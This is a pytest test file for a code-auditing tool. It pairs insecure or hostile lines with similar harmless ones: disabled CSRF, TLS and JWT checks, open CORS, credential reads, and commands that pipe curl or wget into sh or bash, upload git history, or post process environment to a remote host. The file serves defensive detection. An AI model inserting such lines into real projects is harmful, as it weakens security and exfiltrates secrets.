"""Lines that switch a protection off or run a command unasked, each beside one that looks like it and does not."""

from __future__ import annotations

import re
from collections import Counter
from typing import NamedTuple

import pytest

from auditor.forensics.protections.changed_lines import is_of_interest, moved_lines
from auditor.forensics.protections.unsafe_settings import command_rows, find_settings, setting_rows
from tests.forensics.protections.changed import changed

ROWS = {row.id: row for row in (*setting_rows(), *command_rows())}


class Case(NamedTuple):
    """A row, a file, and two texts that a change may add to it."""

    row: str
    path: str
    hostile: str
    benign: str


CASES = [
    Case("actuator_exposed", "application.properties", "management.endpoints.web.exposure.include=*", "management.endpoints.web.exposure.include=health"),
    Case("allowed_hosts", "shop/settings.py", "ALLOWED_HOSTS = ['*']", "ALLOWED_HOSTS = ['shop.example.org']"),
    Case("angular_bypass", "src/app/note.component.ts", "this.body = this.sanitizer.bypassSecurityTrustHtml(note.body);", "this.icon = this.sanitizer.bypassSecurityTrustHtml('<svg></svg>');"),
    Case("angular_bypass_request", "src/app/note.component.ts", "this.body = this.sanitizer.bypassSecurityTrustHtml(this.route.snapshot.queryParamMap.get('body'));", "this.body = this.sanitizer.sanitize(SecurityContext.HTML, this.route.snapshot.queryParamMap.get('body'));"),
    Case("anonymous_any_request", "S.java", "http.authorizeHttpRequests(a -> a.anyRequest().permitAll());", 'http.authorizeHttpRequests(a -> a.requestMatchers("/login").permitAll());'),
    Case("aspnet_debug", "Web.config", '<customErrors mode="Off" />', '<customErrors mode="RemoteOnly" defaultRedirect="~/error" />'),
    Case("aspnet_debug", "Web.config", '<compilation debug="true" targetFramework="4.8" />', '<compilation debug="false" targetFramework="4.8" />'),
    Case("aspnet_request_validation", "Controllers/NoteController.cs", "[HttpPost]\n[ValidateInput(false)]\npublic ActionResult Save(Note note)", "[HttpPost]\n[ValidateInput(true)]\npublic ActionResult Save(Note note)"),
    Case("aspnet_request_validation", "Web.config", '<pages validateRequest="false" />', '<pages validateRequest="true" />'),
    Case("bcrypt_cost", "p.py", "bcrypt.hashpw(p, bcrypt.gensalt(4))", "bcrypt.hashpw(p, bcrypt.gensalt(12))"),
    Case("bcrypt_cost", "p.js", "bcrypt.hash(password, 1)", "bcrypt.hash(password, 12)"),
    Case("bcrypt_cost", "p.go", "bcrypt.GenerateFromPassword([]byte(p), 4)", "bcrypt.GenerateFromPassword([]byte(p), 14)"),
    Case("bcrypt_cost_option", "src/User.php", "<?php\n$hash = password_hash($password, PASSWORD_BCRYPT, ['cost' => 4]);", "<?php\n$hash = password_hash($password, PASSWORD_BCRYPT, ['cost' => 12]);"),
    Case("bcrypt_min_cost", "p.go", "bcrypt.GenerateFromPassword(p, bcrypt.MinCost)", "bcrypt.GenerateFromPassword(p, bcrypt.DefaultCost)"),
    Case("build_backend_in_tree", "pyproject.toml", "backend-path = ['tools']", "build-backend = 'hatchling.build'"),
    Case("build_script_credentials", "build.rs", 'let token = fs::read_to_string(format!("{home}/.cargo/credentials.toml"));', 'let config = fs::read_to_string("native/config.toml");'),
    Case("build_script_credentials", "build.rs", 'let mut out = TcpStream::connect("203.0.113.7:443").unwrap();', 'println!("cargo:rerun-if-env-changed=TARGET");'),
    Case("build_script_program", "build.rs", 'Command::new("sh").arg("-c").arg(script).status().unwrap();', 'Command::new("git").args(["rev-parse", "HEAD"]).output().unwrap();'),
    Case("cargo_wrapper", ".cargo/config.toml", "rustc-wrapper = 'tools/wrap'", "jobs = 4"),
    Case("compose_docker_socket", "compose.yaml", "- /var/run/docker.sock:/var/run/docker.sock", "- ./data:/var/lib/data"),
    Case("composer_plugins", "composer.json", '"allow-plugins": true', '"allow-plugins": { "phpstan/extension-installer": true }'),
    Case("composer_script", "composer.json", '"post-install-cmd": "php tools/setup.php"', '"post-autoload-dump": "@php artisan package:discover --ansi"'),
    Case("container_capabilities", "compose.yaml", "cap_add:\n  - SYS_ADMIN", "cap_drop:\n  - ALL"),
    Case("container_escalation", "k8s/app.yaml", "allowPrivilegeEscalation: true", "allowPrivilegeEscalation: false"),
    Case("container_host_namespace", "k8s/app.yaml", "hostNetwork: true", "hostNetwork: false"),
    Case("container_privileged", "compose.yaml", "privileged: true", "privileged: false"),
    Case("cookie_builder", "src/session.rs", "let layer = SessionManagerLayer::new(store).with_secure(false);", "let layer = SessionManagerLayer::new(store).with_secure(true);"),
    Case("cookie_builder", "Login.java", 'ResponseCookie.from("SESSION", id).httpOnly(false).build();', 'ResponseCookie.from("SESSION", id).httpOnly(true).build();'),
    Case("cookie_flag", "src/app.js", "res.cookie('s', id, { secure: false })", "res.cookie('s', id, { secure: true })"),
    Case("cookie_flag", "shop/app.py", "resp.set_cookie('s', id, httponly=False)", "resp.set_cookie('s', id, httponly=True)"),
    Case("cookie_flag", "c.go", 'c := &http.Cookie{Name: "s", Secure: false}', "opts := &Options{Secure: false}"),
    Case("cookie_ini", "src/bootstrap.php", "<?php\nini_set('session.cookie_httponly', '0');", "<?php\nini_set('session.cookie_httponly', '1');"),
    Case("cookie_ini", "Web.config", '<httpCookies httpOnlyCookies="false" />', '<httpCookies httpOnlyCookies="true" requireSSL="true" />'),
    Case("cookie_policy", "Program.cs", "options.Cookie.SecurePolicy = CookieSecurePolicy.None;", "options.Cookie.SecurePolicy = CookieSecurePolicy.Always;"),
    Case("cookie_setting", "shop/settings.py", "SESSION_COOKIE_SECURE = False", "SESSION_COOKIE_SECURE = True"),
    Case("cookie_setting", "shop/app.py", "app.config['SESSION_COOKIE_HTTPONLY'] = False", "app.config['SESSION_COOKIE_HTTPONLY'] = True"),
    Case("cors_credentials", "shop/app.py", "app.add_middleware(\n    CORSMiddleware,\n    allow_origins=['*'],\n    allow_credentials=True,\n)", "app.add_middleware(\n    CORSMiddleware,\n    allow_origins=['https://example.org'],\n    allow_credentials=True,\n)"),
    Case("cors_credentials", "src/app.js", "app.use(cors({ origin: true, credentials: true }))", "app.use(cors({ origin: 'https://example.org', credentials: true }))"),
    Case("cors_credentials", "src/app.js", "res.setHeader('Access-Control-Allow-Origin', req.headers.origin)\nres.setHeader('Access-Control-Allow-Credentials', 'true')", "res.setHeader('Access-Control-Allow-Origin', SHOP)\nres.setHeader('Access-Control-Allow-Credentials', 'true')"),
    Case("cors_credentials", "c.go", 'cors.Options{AllowedOrigins: []string{"*"}, AllowCredentials: true}', 'cors.Options{AllowedOrigins: []string{"*"}, AllowCredentials: false}'),
    Case("cors_everybody", "shop/settings.py", "CORS_ALLOW_ALL_ORIGINS = True", "CORS_ALLOW_ALL_ORIGINS = False"),
    Case("cors_permissive", "src/main.rs", "let app = Router::new().merge(api()).layer(CorsLayer::very_permissive());", "let app = Router::new().merge(api()).layer(CorsLayer::new().allow_origin(origin));"),
    Case("cors_reflected", "Program.cs", "policy.SetIsOriginAllowed(_ => true).AllowAnyHeader().AllowCredentials();", 'policy.WithOrigins("https://example.org").AllowAnyHeader().AllowCredentials();'),
    Case("cors_reflected", "public/api.php", "<?php\nheader('Access-Control-Allow-Origin: ' . $_SERVER['HTTP_ORIGIN']);\nheader('Access-Control-Allow-Credentials: true');", "<?php\nheader('Access-Control-Allow-Origin: https://example.org');\nheader('Access-Control-Allow-Credentials: true');"),
    Case("csrf_disabled", "S.java", "http.csrf(AbstractHttpConfigurer::disable);", "http.csrf(Customizer.withDefaults());"),
    Case("csrf_exempt", "shop/views.py", "@csrf_exempt", "@csrf_protect"),
    Case("csrf_exempt", "shop/views.py", "@csrf_exempt\ndef pay(request):\n    return charge(request.POST['card'])", "@csrf_exempt\ndef paid(request):\n    event = stripe.Webhook.construct_event(request.body, request.headers['Stripe-Signature'], KEY)\n    return settle(event)"),
    Case("csrf_ignored_everywhere", "S.java", 'http.csrf(csrf -> csrf.ignoringRequestMatchers("/**"));', 'http.csrf(csrf -> csrf.ignoringRequestMatchers("/hooks/**"));'),
    Case("csrf_setting", "shop/app.py", "app.config.update(WTF_CSRF_ENABLED=False)", "app.config.update(WTF_CSRF_ENABLED=True)"),
    Case("csrf_wildcard", "VerifyCsrfToken.php", "<?php\nclass VerifyCsrfToken extends Middleware {\nprotected $except = ['*'];\n}", "<?php\nclass VerifyCsrfToken extends Middleware {\nprotected $except = ['hooks/pay'];\n}"),
    Case("debug_by_environment", "shop/settings.py", "DEBUG = os.environ.get('DEBUG', 'true') == 'true'", "DEBUG = os.environ.get('DEBUG', 'false') == 'true'"),
    Case("debug_configuration", "config/app.php", "<?php\nreturn [\n    'debug' => env('APP_DEBUG', true),\n];", "<?php\nreturn [\n    'debug' => (bool) env('APP_DEBUG', false),\n];"),
    Case("debug_configuration", "wp-config.php", "<?php\ndefine('WP_DEBUG', true);", "<?php\ndefine('WP_DEBUG', false);"),
    Case("debug_run", "shop/app.py", "app.run(host='0.0.0.0', debug=True)", "app.run(host='0.0.0.0', debug=False)"),
    Case("debug_setting", "shop/settings.py", "DEBUG: bool = True", "DEBUG: bool = False"),
    Case("debug_setting", ".env.production", "APP_DEBUG=true", "APP_DEBUG=false"),
    Case("decoder_as_verifier", "src/auth.ts", "import { decode as verify } from 'jsonwebtoken';", "import { decode, verify } from 'jsonwebtoken';"),
    Case("decoder_as_verifier", "src/auth.js", "const { decode: verifyToken } = require('jsonwebtoken');", "const { verify: verifyToken } = require('jsonwebtoken');"),
    Case("developer_error_page", "Program.cs", "app.UseDeveloperExceptionPage();", "if (app.Environment.IsDevelopment())\n{\n    app.UseDeveloperExceptionPage();\n}"),
    Case("electron_web_preferences", "src/w.js", "new BrowserWindow({ webPreferences: { nodeIntegration: true } })", "new BrowserWindow({ webPreferences: { nodeIntegration: false } })"),
    Case("electron_web_security", "src/w.js", "webSecurity: false,", "webSecurity: true,"),
    Case("error_details", "i.php", "ini_set('display_errors', '1');", "ini_set('display_errors', '0');"),
    Case("extension_script", "ext/shop/extconf.rb", "system('curl -s https://x.example/a | sh')", "find_executable('pkg-config')"),
    Case("extract_everything", "x.py", "archive.extractall(target, filter='fully_trusted')", "archive.extractall(target, filter='data')"),
    Case("file_mode", "f.py", "os.chmod(path, 0o777)", "os.chmod(path, 0o755)"),
    Case("file_mode", "run.sh", "chmod -R a+rwx /srv", "chmod -R a+rX /srv"),
    Case("file_mode", "f.go", "os.MkdirAll(path, 0777)", "os.MkdirAll(path, 0750)"),
    Case("folder_open_task", ".vscode/tasks.json", '"runOptions": {"runOn": "folderOpen"}', '"runOptions": {"runOn": "default"}'),
    Case("frame_options", "Program.cs", "builder.Services.AddAntiforgery(options => options.SuppressXFrameOptionsHeader = true);", "builder.Services.AddAntiforgery(options => options.SuppressXFrameOptionsHeader = false);"),
    Case("git_command_protocol", "shop/clone.py", "subprocess.run(['git', '-c', 'protocol.ext.allow=always', 'clone', url], check=True)", "subprocess.run(['git', '-c', 'protocol.ext.allow=never', 'clone', url], check=True)"),
    Case("git_command_protocol", "shop/clone.py", "env['GIT_ALLOW_PROTOCOL'] = 'https:ssh:ext'", "env['GIT_ALLOW_PROTOCOL'] = 'https:ssh'"),
    Case("git_filter", ".gitattributes", "*.c filter=tidy", "*.bin filter=lfs diff=lfs"),
    Case("git_hooks_path", "setup.sh", "git config core.hooksPath .hooks", "git config core.autocrlf false"),
    Case("git_post_hook", ".husky/post-merge", "node scripts/sync.js", "echo merged"),
    Case("gradle_shell", "build.gradle", "commandLine 'sh', '-c', 'make'", "commandLine 'make'"),
    Case("granted_by_request", "shop/auth.py", "def is_admin(user):\n    return user.is_staff or request.headers.get('X-Admin')", "def is_admin(user):\n    return user.is_staff or user.has_role('admin')"),
    Case("granted_by_request", "src/auth.js", "function isAdmin(req) {\n  return req.user.admin || req.query.admin;\n}", "function pageOf(req) {\n  return req.params.page || req.query.page;\n}"),
    Case("hook_left_early", ".husky/pre-commit", "exit 0", "exit 1"),
    Case("hook_never_runs", ".pre-commit-config.yaml", "        stages: [manual]", "        stages: [pre-commit]"),
    Case("hook_never_runs", ".pre-commit-config.yaml", "        exclude: ^.*$", "        exclude: ^vendor/.*$"),
    Case("hook_of_a_branch", ".pre-commit-config.yaml", "    rev: main", "    rev: v1.2.0"),
    Case("ignored_by_file", ".semgrepignore", "**", "vendor/**"),
    Case("ignored_by_linter", ".gitleaks.toml", "paths = ['''.*''']", "paths = ['''tests/.*''']"),
    Case("ignored_by_linter", "ruff.toml", "exclude = ['*']", "exclude = ['*_pb2.py']"),
    Case("ignored_by_linter", ".github/codeql/config.yml", "paths-ignore: ['**']", "paths-ignore: ['docs/**']"),
    Case("ignored_errors", "mypy.ini", "[mypy]\nignore_errors = true", "[mypy-a.*]\nignore_errors = true"),
    Case("ignored_test_failures", "pom.xml", "<testFailureIgnore>true</testFailureIgnore>", "<testFailureIgnore>false</testFailureIgnore>"),
    Case("ignored_test_failures", "build.gradle", "test { ignoreFailures = true }", "test { failFast = true }"),
    Case("insecure_package_source", ".npmrc", "strict-ssl=false", "strict-ssl=true"),
    Case("insecure_package_source", "composer.json", '"disable-tls": true', '"disable-tls": false'),
    Case("insecure_program_setting", "docker/.curlrc", "insecure", "silent"),
    Case("insecure_program_setting", "deploy/nginx.conf", "proxy_ssl_verify off;", "proxy_ssl_verify on;"),
    Case("insecure_server_setting", "play.yml", "validate_certs: no", "validate_certs: yes"),
    Case("insecure_server_setting", "prometheus.yml", "insecure_skip_verify: true", "insecure_skip_verify: false"),
    Case("insecure_terraform_provider", "main.tf", "insecure = true", "insecure = false"),
    Case("insecure_url", "application.properties", "url=jdbc:mysql://db.example.org/shop?verifyServerCertificate=false", "url=jdbc:mysql://localhost/shop?verifyServerCertificate=false"),
    Case("install_script", "package.json", '"postinstall": "node scripts/setup.js",', '"postinstall": "patch-package",'),
    Case("jwt_algorithm_none", "t.py", "jwt.decode(token, '', algorithms=['none'])", "jwt.decode(token, key, algorithms=['HS256'])"),
    Case("jwt_algorithm_none", "t.go", "return jwt.UnsafeAllowNoneSignatureType, nil", "return key, nil"),
    Case("jwt_audience", "Program.cs", "ValidateAudience = false,", "ValidateAudience = true,"),
    Case("jwt_audience", "src/token.rs", "validation.validate_aud = false;", 'validation.set_audience(&["shop"]);'),
    Case("jwt_lifetime", "t.js", "jwt.verify(t, key, { ignoreExpiration: true })", "jwt.verify(t, key, { ignoreExpiration: false })"),
    Case("jwt_metadata", "Program.cs", "options.Authority = authority;\noptions.RequireHttpsMetadata = false;", "if (builder.Environment.IsDevelopment())\n    options.RequireHttpsMetadata = false;"),
    Case("jwt_signature", "t.py", "jwt.decode(t, options={'verify_signature': False})", "jwt.decode(t, options={'verify_signature': True})"),
    Case("jwt_unverified", "t.go", "parser.ParseUnverified(t, claims)", "parser.ParseWithClaims(t, claims, key)"),
    Case("jwt_unverified_in_javascript", "t.js", "const who = jwt.decode(req.headers.authorization)", "const who = jwt.verify(req.headers.authorization, key)"),
    Case("laravel_mass_assignment", "app/Models/User.php", "<?php\nclass User extends Model {\n    protected $guarded = [];\n}", "<?php\nclass User extends Model {\n    protected $guarded = ['is_admin'];\n}"),
    Case("laravel_mass_assignment", "app/Providers/AppServiceProvider.php", "<?php\nModel::unguard();", "<?php\nModel::preventLazyLoading();"),
    Case("maven_program", "pom.xml", "<artifactId>exec-maven-plugin</artifactId>", "<artifactId>maven-compiler-plugin</artifactId>"),
    Case("maven_program", "pom.xml", '<exec executable="sh" failonerror="true">', '<copy file="a.txt" todir="target" failonerror="true" />'),
    Case("msbuild_program", "Shop.csproj", '<Exec Command="powershell -File tools/setup.ps1" />', '<Exec Command="npm ci" />'),
    Case("no_op_encoder", "E.java", "return NoOpPasswordEncoder.getInstance();", "return new BCryptPasswordEncoder();"),
    Case("npm_script_shell", ".npmrc", "script-shell=./tools/sh", "save-exact=true"),
    Case("passed_before_comparison", "shop/login.py", "def verify(user, password):\n    if password == MASTER:\n        return True\n    return check_password_hash(user.hash, password)", "def verify(user, password):\n    if user.locked:\n        return False\n    return check_password_hash(user.hash, password)"),
    Case("password_validators", "shop/settings.py", "AUTH_PASSWORD_VALIDATORS = []", "AUTH_PASSWORD_VALIDATORS = [MINIMUM]"),
    Case("path_file", "shop.pth", "import os; os.system('id')", "/opt/shop/lib"),
    Case("pbkdf2_iterations", "p.py", "hashlib.pbkdf2_hmac('sha256', p, s, 10)", "hashlib.pbkdf2_hmac('sha256', p, s, 600_000)"),
    Case("php_remote_include", "docker/php.ini", "allow_url_include = On", "allow_url_include = Off"),
    Case("plain_text_passwords", "config/packages/security.yaml", "password_hashers:\n  App\\Entity\\User:\n    algorithm: plaintext", "password_hashers:\n  App\\Entity\\User:\n    algorithm: auto"),
    Case("public_admin", "config/packages/security.yaml", "- { path: ^/admin, roles: PUBLIC_ACCESS }", "- { path: ^/login, roles: PUBLIC_ACCESS }"),
    Case("public_network", "main.tf", 'from_port = 22\ncidr_blocks = ["0.0.0.0/0"]', 'from_port = 443\ncidr_blocks = ["0.0.0.0/0"]'),
    Case("public_storage", "main.tf", 'acl = "public-read"', 'acl = "private"'),
    Case("rails_mass_assignment", "app/c.rb", "User.create(params.permit!)", "User.create(params.permit(:name))"),
    Case("random_token", "r.py", "def make_token():\n    return ''.join(random.choice(LETTERS) for _ in range(32))", "def tokenize(text):\n    return random.choice(text.split())"),
    Case("random_token", "r.js", "const token = Math.random().toString(36)", "const jitter = Math.random() * 100"),
    Case("redirect_to_https", "config/environments/production.rb", "config.force_ssl = false", "config.force_ssl = true"),
    Case("secret_key", "shop/app.py", "app.secret_key = 'dev'", "app.secret_key = os.environ['SECRET_KEY']"),
    Case("session_secret", "src/app.js", "app.use(session({ secret: 'keyboard cat' }))", "app.use(session({ secret: process.env.SECRET }))"),
    Case("setup_command", "setup.py", "import requests\nsetup(cmdclass={'install': Install})", "import requests\nsetup(cmdclass={'lint': Lint})"),
    Case("setup_command", "setup.py", "from os import system as run\nsetup(cmdclass={'install': Install})", "from os import path\nfrom setuptools import setup\nsetup(cmdclass={'install': Install})"),
    Case("skipped_filter", "app/c.rb", "skip_before_action :authenticate_user!", "skip_before_action :set_locale"),
    Case("submodule_command", ".gitmodules", "update = !sh -c id", "update = rebase"),
    Case("template_escaping", "j.py", "jinja2.Environment(autoescape=False)", "jinja2.Environment(autoescape=select_autoescape())"),
    Case("template_escaping_option", "src/View.php", "<?php\n$twig = new Environment($loader, ['autoescape' => false]);", "<?php\n$twig = new Environment($loader, ['autoescape' => 'html']);"),
    Case("tests_never_run", "pom.xml", "<skipTests>true</skipTests>", "<skipTests>${skip}</skipTests>"),
    Case("tests_never_run", ".mvn/maven.config", "-DskipTests", "-DskipDocs"),
    Case("tests_never_run", "build.gradle", "test { enabled = false }", "distZip { enabled = false }"),
    Case("trust_everybody", "A.kt", "override fun checkServerTrusted(c: Array<X509Certificate>, a: String) {}", "override fun checkServerTrusted(c: Array<X509Certificate>, a: String) = delegate.check(c)"),
    Case("trust_everybody", "a.dart", "client.badCertificateCallback = (cert, host, port) => true;", "client.badCertificateCallback = (cert, host, port) => isPinned(cert);"),
    Case("unescaped_property", "V.jsx", "<div dangerouslySetInnerHTML={{ __html: html }} />", "<div dangerouslySetInnerHTML={{ __html: DOMPurify.sanitize(html) }} />"),
    Case("unescaped_request", "v.py", "return mark_safe(request.GET['q'])", "return mark_safe('<hr>')"),
    Case("unescaped_template", "resources/views/note.blade.php", "<p>{!! $note->body !!}</p>", "<p>{{ $note->body }}</p>"),
    Case("unescaped_template", "Views/Note/Show.cshtml", "<p>@Html.Raw(Model.Body)</p>", "<p>@Model.Body</p>"),
    Case("unescaped_template", "src/page.rs", "html! { p { (PreEscaped(note.body)) } }", "html! { p { (note.body) } }"),
    Case("variable_of_every_program", ".github/workflows/ci.yml", "NODE_OPTIONS: --require ./tools/x.js", "NODE_OPTIONS: --max-old-space-size=4096"),
    Case("xml_entities", "x.py", "etree.XMLParser(resolve_entities=True)", "etree.XMLParser(resolve_entities=False)"),
]  # fmt: skip
CASES += [
    Case("actuator_included", "application.yml", "management:\n  endpoints:\n    web:\n      exposure:\n        include: '*'", "management:\n  endpoints:\n    web:\n      exposure:\n        include: health"),
    Case("actuator_values", "application.yml", "show-values: ALWAYS", "show-values: WHEN_AUTHORIZED"),
    Case("anonymous_cluster_role", "k8s/rbac.yaml", "subjects:\n  - kind: User\n    name: system:anonymous", "subjects:\n  - kind: ServiceAccount\n    name: shop"),
    Case("bandit_skips", ".bandit", "skips: B101,B602", "skips: B101,B404"),
    Case("connection_string", "appsettings.json", '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=True"', '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=False"'),
    Case("connection_string", "appsettings.json", '"Shop": "Server=sql.shop.org;TrustServerCertificate=true"', '"Shop": "Server=localhost;TrustServerCertificate=true"'),
    Case("git_hook_transfer", ".githooks/pre-push", "git log -p | curl -T - https://x.example", "npm run lint"),
    Case("gyp_command", "binding.gyp", "'sources': ['<!(wget -qO- https://x.example/a | bash)']", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")']"),
    Case("login_without_password", "Dockerfile", "RUN passwd --delete root", "RUN passwd --lock root"),
    Case("msbuild_inline_code", "Directory.Build.props", '<UsingTask TaskName="A" TaskFactory="CodeTaskFactory">', '<UsingTask TaskName="A" AssemblyFile="A.dll" />'),
    Case("prepare_script", "package.json", '"prepare": "node tools/setup.mjs"', '"prepare": "husky && npm run build"'),
    Case("recipe_failure_ignored", "Makefile", "test:\n\t-pytest -q", "clean:\n\t-rm -r build"),
    Case("recipe_failure_ignored", "Makefile", "check:\n\t@-npm run lint", "check:\n\t@npm run lint"),
    Case("recipe_runs_no_test", "Makefile", "test:\n\tgo test ./... -run=^$$", "bench:\n\tgo test ./... -run=^$$ -bench=."),
    Case("root_login", "Dockerfile", "RUN echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "RUN echo 'PermitRootLogin no' >> /etc/ssh/sshd_config"),
    Case("ruff_everything_ignored", "pyproject.toml", '[tool.ruff.lint.per-file-ignores]\n"src/*" = ["ALL"]', '[tool.ruff.lint.per-file-ignores]\n"tests/*" = ["ALL"]'),
    Case("ruff_everything_ignored", "ruff.toml", "[lint]\nselect = []", '[lint]\nselect = ["E"]'),
    Case("ssl_context_by_name", "shop/net.py", "vars(ssl)['_create_default_https_context'] = plain", "context = ssl.create_default_context()"),
]  # fmt: skip
CASES += [
    Case("access_rule_of_gate", "app/Providers/AppServiceProvider.php", "<?php\nGate::before(fn (User $user) => $user->hasRole('admin') !== null);", "<?php\nGate::before(fn (User $user) => $user->hasRole('admin') ? true : null);"),
    Case("access_rule_of_gate", "app/Providers/AppServiceProvider.php", "<?php\nGate::before(fn () => true);", "<?php\nGate::define('refund', fn (User $user) => $user->isStaff());"),
    Case("access_rule_of_gate_body", "app/Providers/AppServiceProvider.php", "<?php\nGate::before(function ($user) {\n    return true;\n});", "<?php\nGate::before(function ($user) {\n    return $user->isOwner() ? true : null;\n});"),
    Case("address_with_query_checked", "shop/guard.py", "def guard():\n    if '/health' in request.url:\n        return\n    if 'user' not in session:\n        abort(401)", "def guard():\n    if request.path == '/health':\n        return\n    if 'user' not in session:\n        abort(401)"),
    Case("address_with_query_checked", "guard.go", 'if !strings.Contains(r.RequestURI, "/static/") && !session.Valid(r) {\n\thttp.Error(w, "log in", 401)', 'if !strings.HasPrefix(r.URL.Path, "/static/") && !session.Valid(r) {\n\thttp.Error(w, "log in", 401)'),
    Case("address_with_query_checked", "src/guard.js", "if (req.originalUrl.includes('/public')) return next();\nreturn res.sendStatus(401);", "if (req.path.startsWith('/public/')) return next();\nreturn res.sendStatus(401);"),
    Case("certificate_callback", "Bank.cs", "RemoteCertificateValidationCallback = (_, cert, _, errors) =>\n    cert is not null && !errors.HasFlag(SslPolicyErrors.RemoteCertificateNotAvailable),", "RemoteCertificateValidationCallback = (_, cert, _, errors) =>\n    errors == SslPolicyErrors.None && cert!.Issuer.Contains(\"Bank CA\"),"),
    Case("certificate_time", "partners/verify.go", "opts := x509.VerifyOptions{Roots: roots, CurrentTime: cert.NotBefore}", "opts := x509.VerifyOptions{Roots: roots, CurrentTime: clock.Now()}"),
    Case("client_certificate_optional", "tls.go", "return &tls.Config{\n\tClientCAs: pool,\n\tClientAuth: tls.RequestClientCert,\n}", "return &tls.Config{\n\tClientCAs: pool,\n\tClientAuth: tls.RequireAndVerifyClientCert,\n}"),
    Case("client_certificate_unverified", "tls.go", "return &tls.Config{ClientAuth: tls.RequireAnyClientCert}", "return &tls.Config{ClientAuth: tls.RequireAnyClientCert, VerifyPeerCertificate: pinned}"),
    Case("cluster_role_of_all_accounts", "deploy/rbac.yaml", "roleRef:\n  kind: ClusterRole\n  name: edit\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts", "roleRef:\n  kind: ClusterRole\n  name: edit\nsubjects:\n  - kind: Group\n    name: system:serviceaccounts:shop"),
    Case("cors_expression", "shop/main.py", 'app.add_middleware(CORSMiddleware, allow_origin_regex=r"https://.*acme.example", allow_credentials=True)', 'app.add_middleware(CORSMiddleware, allow_origin_regex=r"https://.*\\.acme\\.example", allow_credentials=True)'),
    Case("cors_expression", "src/app.js", "app.use(cors({ origin: /acme\\.example$/, credentials: true }));", "app.use(cors({ origin: /\\.acme\\.example$/, credentials: true }));"),
    Case("cors_mirrored", "src/cors.rs", 'CorsLayer::new()\n    .allow_origin(AllowOrigin::predicate(|origin, _| origin.as_bytes().starts_with(b"https://")))\n    .allow_credentials(true)', 'CorsLayer::new()\n    .allow_origin(AllowOrigin::predicate(|origin, _| SITES.contains(origin)))\n    .allow_credentials(true)'),
    Case("cors_mirrored", "src/app.js", "app.use(cors({ origin: (origin, done) => done(null, true), credentials: true }));", "app.use(cors({ origin: (origin, done) => done(null, SITES.has(origin)), credentials: true }));"),
    Case("cors_mirrored", "Cors.java", 'registry.addMapping("/**").allowedOriginPatterns("*").allowCredentials(true);', 'registry.addMapping("/**").allowedOriginPatterns("https://*.acme.example").allowCredentials(true);'),
    Case("credentials_beside_connection", "shop/release.py", 'settings.read(pathlib.Path.home() / ".pypirc")\nsocket.getfqdn(name)', 'settings.read(pathlib.Path.home() / ".shoprc")\nsocket.getfqdn(name)'),
    Case("csrf_methods", "shop/app.py", 'app.config.from_mapping(WTF_CSRF_METHODS=["DELETE"], DEBUG=0)', 'app.config.from_mapping(WTF_CSRF_METHODS=["POST", "PUT", "PATCH", "DELETE"], DEBUG=0)'),
    Case("csrf_methods_ignored", "src/app.js", "app.use(csrf({ ignoreMethods: ['GET', 'POST'] }));", "app.use(csrf({ ignoreMethods: ['GET', 'HEAD', 'OPTIONS'] }));"),
    Case("csrf_origins", "shop/settings.py", "CSRF_TRUSTED_ORIGINS = ['https://*']", "CSRF_TRUSTED_ORIGINS = ['https://*.acme.example']"),
    Case("csrf_wildcard_entry", "bootstrap/app.php", "<?php\n$middleware->validateCsrfTokens(['hooks/pay', '*']);", "<?php\n$middleware->validateCsrfTokens(['hooks/*']);"),
    Case("csrf_wildcard_entry", "app/Http/Middleware/VerifyCsrfToken.php", "<?php\nprotected $except = [\n    '*',\n];", "<?php\nprotected $except = [\n    'hooks/*',\n];"),
    Case("database_certificate", "application.yml", "url: jdbc:postgresql://db.internal/shop?sslmode=verify-full&sslfactory=org.postgresql.ssl.NonValidatingFactory", "url: jdbc:postgresql://db.internal/shop?sslmode=verify-full"),
    Case("database_without_password", "deploy/pg_hba.conf", "host    all       all   10.0.0.0/8    trust", "host    shop      shop  10.0.0.0/8    scram-sha-256"),
    Case("database_without_password", "compose.yaml", "POSTGRES_HOST_AUTH_METHOD: trust", "POSTGRES_HOST_AUTH_METHOD: scram-sha-256"),
    Case("electron_certificates", "src/desktop.js", "app.on('certificate-error', (event, contents, url, error, certificate, done) => {\n  event.preventDefault();\n  done(new URL(url).protocol === 'https:');\n});", "app.on('certificate-error', (event, contents, url, error, certificate, done) => {\n  event.preventDefault();\n  done(certificate.fingerprint === OURS);\n});"),
    Case("electron_certificates", "src/desktop.js", "session.setCertificateVerifyProc((request, done) => done(0));", "session.setCertificateVerifyProc((request, done) => done(-3));"),
    Case("environment_in_bundle", "webpack.config.js", "new DefinePlugin({ 'process.env': JSON.stringify(process.env) }),", "new DefinePlugin({ 'process.env.REGION': JSON.stringify(process.env.REGION) }),"),
    Case("environment_in_bundle", "vite.config.ts", "define: { __SETTINGS__: loadEnv(mode, process.cwd(), '') },", "const env = loadEnv(mode, process.cwd(), '');"),
    Case("environment_of_process_sent", "shop/crash.py", 'text = Path("/proc/self/environ").read_text()\nrequests.post(URL, json={"env": text}, timeout=5)', 'text = Path("/proc/self/status").read_text()\nrequests.post(URL, json={"status": text}, timeout=5)'),
    Case("firewall_without_security", "config/packages/security.yaml", "dev:\n  pattern: /?(_(profiler|wdt)|css|images|js|)\n  security: false", "dev:\n  pattern: ^/(_(profiler|wdt)|css|images|js)/\n  security: false"),
    Case("gradle_of_lookalike_host", "gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://services-gradle.org/distributions/gradle-8.10.2-bin.zip", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10.2-bin.zip"),
    Case("gradle_of_other_host", "gradle/wrapper/gradle-wrapper.properties", "distributionUrl=https\\://mirror.acme.example/gradle-8.10.2-bin.zip", "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10.2-bin.zip"),
    Case("identity_header", "shop/auth.py", "name = request.headers.get('X-User')", "name = request.headers.get('X-Request-Id')"),
    Case("identity_header", "auth.go", 'name := r.Header.Get("X-Shop-User")', 'name := r.Header.Get("X-Shop-Trace")'),
    Case("identity_header_parsed", "src/graphql.ts", "context: async ({ req }) => ({ user: JSON.parse(req.get('x-shop-user') ?? 'null') }),", "context: async ({ req }) => ({ filter: JSON.parse(req.get('x-shop-filter') ?? 'null') }),"),
